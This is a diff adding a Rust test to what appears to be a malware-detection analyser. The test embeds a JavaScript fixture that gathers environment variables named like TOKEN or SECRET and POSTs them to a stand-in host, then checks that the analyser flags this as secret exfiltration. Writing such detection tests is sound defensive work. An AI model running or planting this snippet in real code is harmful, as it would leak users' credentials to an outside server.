@@ -935,3 +935,20 @@ fn editor_task_run_on_folder_open_is_persistence() {
         facts(scaffold)
     );
 }
+
+#[test]
+fn items_of_a_list_made_from_secrets_are_secrets() {
+    let src = r"
+        const https = require('https');
+        const env = process.env;
+        const keys = Object.keys(env).filter((k) => /TOKEN|SECRET/.test(k));
+        const out = {};
+        keys.forEach(function (k) { out[k] = env[k]; });
+        https.request({ host: 'cache.example.invalid', method: 'POST' }).end(JSON.stringify(out));
+    ";
+    assert!(
+        kinds(src).contains(&K::SecretExfiltration),
+        "{:?}",
+        facts(src)
+    );
+}
